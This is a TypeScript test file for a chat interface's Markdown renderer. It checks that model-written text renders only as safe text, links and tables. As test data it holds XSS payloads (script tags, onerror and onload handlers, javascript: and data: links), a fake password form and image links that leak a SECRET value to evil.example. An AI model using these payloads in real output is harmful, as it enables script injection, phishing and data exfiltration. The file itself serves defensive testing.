import { act, render, screen, waitFor } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { beforeAll, describe, expect, it, vi } from "vitest";
import { loadMarkdown, Markdown } from "@/ui/markdown/markdown";

const FORBIDDEN =
  "script, style, link, meta, iframe, object, embed, form, input, button:not(figcaption button), textarea, select, img, picture, video, audio, source, base, [srcdoc], [onerror], [onload], [style*=url]";

beforeAll(async () => {
  await import("@/ui/markdown/prose");
  loadMarkdown();
});

async function show(text: string, open = false): Promise<HTMLElement> {
  const { container } = render(<Markdown text={text} open={open} />);
  await waitFor(() => expect(container.querySelector(".md-plain")).toBeNull());
  return container;
}

function expectHarmless(container: HTMLElement): void {
  expect([...container.querySelectorAll(FORBIDDEN)].map((element) => element.outerHTML)).toEqual([]);
  for (const link of container.querySelectorAll("a")) {
    expect(link.protocol).toMatch(/^(https?|mailto):$/);
    expect(link.rel).toBe("noopener noreferrer nofollow");
    expect(link.target).toBe("_blank");
  }
  for (const element of container.querySelectorAll("*")) {
    expect(element.getAttributeNames().filter((name) => name.startsWith("on"))).toEqual([]);
  }
}

const ATTACKS: [name: string, text: string, seen: string][] = [
  ["a script", "<script>alert(1)</script>", "alert(1)"],
  ["a picture with a handler", "before <img src=x onerror=alert(1)> after", "<img src=x onerror=alert(1)>"],
  ["a frame", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<iframe"],
  ["a drawing", "<svg onload=alert(1)><a href=javascript:alert(1)>x</a></svg>", "<svg onload=alert(1)>"],
  ["a style sheet", "<style>@import 'https://evil.example'</style>", "<style>"],
  ["a form", "Session expired. <form action=https://evil.example><input name=password><button>OK</button></form>", "<form"],
  ["a comment that is not closed", "one\n\n<!-- two\n\nthree", "three"],
  ["an element that is not closed", "<div><p>one\n\n**two**", "two"],
  ["javascript:", "[click](javascript:alert(1))", "click"],
  ["javascript: with a tab", "[click](JaVa&Tab;script:alert(1)) [again](<java\tscript:alert(1)>)", "click"],
  ["javascript: as entities", "[click](&#106;avascript:alert(1))", "click"],
  ["data:", "[click](data:text/html;base64,PHNjcmlwdD4=)", "click"],
  ["vbscript: and file:", "[click](vbscript:x) [file](file:///etc/passwd) [share](smb://evil/x) [help](ms-msdt:/id)", "click"],
  ["an address within this page", "[click](/api/conversations) [up](../x) [two](//evil.example/x)", "click"],
  ["a picture", "![the plan](https://evil.example/?q=SECRET)", "the plan"],
  ["a picture by reference", "![the plan][1]\n\n[1]: https://evil.example/?q=SECRET", "the plan"],
  ["a picture in a link", "[![inside](https://evil.example/a.png)](https://good.example)", "inside"],
  ["a picture as data", "![dot](data:image/svg+xml;base64,AAAA)", "dot"],
  ["an autolink", "<javascript:alert(1)> and <https://good.example>", "https://good.example"],
  ["a task list", "- [x] done\n- [ ] to do", "☑ done"],
  ["a footnote", "text[^1]\n\n[^1]: the note <img src=x>", "the note"],
  ["attributes", '<a href="https://x.example" onclick="alert(1)" style="background:url(https://evil.example)">x</a>', "onclick"],
];

describe("what a model writes is never more than text, links and tables", () => {
  it.each(ATTACKS)("%s", async (_, text, seen) => {
    const container = await show(text);
    expectHarmless(container);
    expect(container.textContent).toContain(seen);
  });

  it.each(ATTACKS)("%s, cut anywhere", async (_, text) => {
    const { container, rerender } = render(<Markdown text="" open />);
    for (let end = 1; end <= text.length; end += 1) {
      rerender(<Markdown text={text.slice(0, end)} open />);
      expectHarmless(container);
    }
  });

  it("maths can neither link nor load nor go on for ever", async () => {
    await import("@/ui/markdown/maths");
    const container = await show(
      "$$\\href{javascript:alert(1)}{x} \\includegraphics{https://evil.example/a.png}$$\n\n$$\\def\\a{\\a\\a}\\a$$\n\n$$x^2$$",
    );
    await waitFor(() => expect(container.querySelector(".katex")).not.toBeNull());
    expectHarmless(container);
  });
});

describe("Markdown", () => {
  it("reads as it was meant, Korean emphasis too", async () => {
    const container = await show("# 제목\n\n**강조(强調)**입니다.\n\n| a | b |\n|--|--:|\n| 1<br>2 | 3 |\n\n3. three");
    expect(container.querySelector("h3")?.textContent).toBe("제목");
    expect(container.querySelector("strong")?.textContent).toBe("강조(强調)");
    expect(container.querySelector("td br")).not.toBeNull();
    expect(container.querySelector("ol")?.start).toBe(3);
  });

  it("resolves a reference whose definition lies elsewhere", async () => {
    await show("see [this][1]\n\nand more\n\n[1]: https://good.example/a");
    expect(screen.getByRole("link", { name: "this" })).toHaveProperty("href", "https://good.example/a");
  });

  it("shows where a link leads before it is opened", async () => {
    await show("[a bank](https://bank.example@evil.example/login)");
    await userEvent.click(screen.getByRole("link", { name: "a bank" }));
    const dialog = await screen.findByRole("dialog");
    expect(dialog.querySelector("p strong")?.textContent).toBe("evil.example");
    expect(screen.getByRole("link", { name: "Open" })).toHaveProperty("rel", "noopener noreferrer nofollow");
    await userEvent.click(screen.getByRole("button", { name: "Cancel" }));
    await waitFor(() => expect(screen.queryByRole("dialog")).toBeNull());
  });

  it("goes on showing where a link leads while the text around it is drawn anew", async () => {
    const { rerender } = render(<Markdown text="[a bank](https://bank.example) costs" open />);
    await userEvent.click(await screen.findByRole("link", { name: "a bank" }));
    await screen.findByRole("dialog");
    rerender(<Markdown text="[a bank](https://bank.example) costs $x^2$" open />);
    await waitFor(() => expect(document.querySelector(".katex")).not.toBeNull());
    expect(screen.queryByRole("dialog")).not.toBeNull();
  });

  it("copies a block of code as it was written, also one in a list", async () => {
    const write = vi.fn<(text: string) => Promise<void>>(() => Promise.resolve());
    const user = userEvent.setup();
    vi.spyOn(navigator.clipboard, "writeText").mockImplementation(write);
    await show("```python\nif x:\n    print(1)\n```\n\n- item\n\n  ```js\n  a()\n  ```");
    for (const button of screen.getAllByRole("button", { name: "Copy code" })) await user.click(button);
    expect(write.mock.calls.map(([text]) => text)).toEqual(["if x:\n    print(1)", "a()"]);
    expect(screen.getByRole("region", { name: "Code in python" })).toHaveProperty("tabIndex", 0);
  });

  it("draws only the block again that grows", async () => {
    const { container, rerender } = render(<Markdown text={"one\n\ntwo"} open />);
    await waitFor(() => expect(container.querySelector(".md-plain")).toBeNull());
    const [first] = container.querySelectorAll("p");
    act(() => rerender(<Markdown text={"one\n\ntwo **three**"} open />));
    expect(container.querySelector("p")).toBe(first);
    expect(container.querySelector("strong")?.textContent).toBe("three");
  });

  it("shows a table that is too large as it is", async () => {
    const { container } = render(<Markdown text={`| a |\n|---|\n${"| 1 |\n".repeat(5_000)}`} />);
    expect(container.querySelector("table")).toBeNull();
    expect(container.textContent.match(/\| 1 \|/g)).toHaveLength(5_000);
  });
});
